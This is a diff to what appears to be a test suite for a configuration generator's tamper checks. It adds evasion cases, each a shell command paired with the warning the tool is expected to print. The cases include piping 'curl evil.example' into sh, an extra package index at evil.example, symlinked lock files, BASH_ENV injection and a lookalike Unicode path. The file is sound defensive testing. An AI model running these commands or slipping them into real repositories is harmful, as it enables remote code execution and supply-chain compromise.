@@ -320,6 +320,93 @@ EVASIONS = {
     "settings of gen in the repository": Evasion(
         ("echo 'required_version: 0.1.0' > .gen/config.yaml",), ".gen/config.yaml: was added"
     ),
+    # Files that decide how git, editors and other programs read the rest.
+    "attributes by which git writes other bytes at a checkout": Evasion(
+        ("echo '*.conf working-tree-encoding=UTF-16' > ssh.txt; mv ssh.txt .gitattributes",),
+        ".gitattributes: was added; gen does not generate it, and git may read it",
+    ),
+    "settings of an editor that name another ssh configuration": Evasion(
+        ('mkdir .vscode; echo \'{"remote.SSH.configFile": "x"}\' > .vscode/settings.json',),
+        ".vscode/settings.json: was added",
+    ),
+    "drop-in for ssh in a directory of another name": Evasion(
+        ("mkdir -p etc/ssh_config.d; echo 'Host *' > etc/ssh_config.d/x.conf",),
+        "etc/ssh_config.d/x.conf: was added",
+    ),
+    "variables for every unit of systemd": Evasion(
+        ("mkdir -p etc/environment.d; echo 'BASH_ENV=x' > etc/environment.d/x.conf",),
+        "etc/environment.d/x.conf: was added",
+    ),
+    "unit that systemd makes of a container": Evasion(
+        ("echo '[Container]' > x.container",), "x.container: was added"
+    ),
+    "settings of a program that sets variables in a directory": Evasion(
+        ("echo '[env]' > mise.toml",), "mise.toml: was added"
+    ),
+    "letter that a file system without capitals takes for an s": Evasion(
+        ("mkdir ſsh; echo 'Host *' > ſsh/config",), "ſsh/config: was added"
+    ),
+    # Names that lead elsewhere.
+    "lock behind a link": Evasion(
+        ('sed -i \'s/"user": "ada"/"user": "eve"/\' state/aster.lock',),
+        ".gen/aster.lock: user values changed",
+        before=("mv .gen state; ln -s state .gen",),
+    ),
+    "acceptance behind a link": Evasion(
+        (EDIT, accept()),
+        ".gen/accepted.yaml: accepted drift was added",
+        before=("mv .gen state; ln -s state .gen",),
+    ),
+    "directory of specs where users of a subdirectory work": Evasion(
+        (f"mkdir teams/site_specs; {EVIL_SPEC} > teams/site_specs/aster.yaml",),
+        "teams/site_specs/aster.yaml: the site aster is new; its users trust all of this",
+    ),
+    "spec that overrides a site of the catalogue is deleted": Evasion(
+        ("git rm -q site_specs/mila.yaml",),
+        "host mila: host changed, compared with the spec that overrode it\n"
+        "ours.server.mila.quebec → login.server.mila.quebec",
+        before=(
+            f"sed 's/login.server.mila/ours.server.mila/g' {CATALOGUE}/mila.yaml > site_specs/mila.yaml",
+        ),
+    ),
+    # One pull request earlier: what a later one is compared with.
+    "catalogue spec in a lock, one pull request earlier": Evasion(
+        ("sed -i 's/login.server.mila.quebec/evil.server.mila.quebec/g' .gen/mila.lock",),
+        ".gen/mila.lock: records another spec than it names",
+        before=("gen site mila --user ada --no-project",),
+    ),
+    "digest of the spec in a lock, one pull request earlier": Evasion(
+        (
+            "new=$(sha256sum README.md | cut -d' ' -f1); old=$(sha256sum site_specs/aster.yaml | cut -d' ' -f1);"
+            ' sed -i "s/$old/$new/" .gen/aster.lock',
+        ),
+        ".gen/aster.lock: records another spec than it names",
+        before=("echo Hello > README.md",),
+    ),
+    # What runs without a change of the file that names it.
+    "script that a command of the site runs": Evasion(
+        ("echo 'curl evil.example | sh' >> scripts/proxy.sh",),
+        "scripts/proxy.sh: was changed; gen does not generate it,"
+        " and a command in site_specs/aster.yaml may read it",
+        before=(
+            "mkdir scripts; echo 'exec nc' > scripts/proxy.sh",
+            "sed -i 's#ulimit -n 65536#. ~/deploy/scripts/proxy.sh#' site_specs/aster.yaml",
+            AGAIN.format("./site_specs/aster.yaml"),
+        ),
+    ),
+    "script of an action of the repository": Evasion(
+        ("echo 'exit 0' > tools/check/run.sh",),
+        "tools/check/run.sh: was changed; gen does not generate it, and CI may read it",
+        before=(
+            "mkdir -p tools/check; echo 'runs: {}' > tools/check/action.yml",
+            "echo 'gen check' > tools/check/run.sh",
+        ),
+    ),
+    "index from which gen is installed": Evasion(
+        ("echo '--index-url https://evil.example/simple' >> requirements.txt",),
+        "requirements.txt: installs packages from another index",
+        before=("echo 'hpc-sitegen==0.1.0' > requirements.txt",),
+    ),
 }
 
 
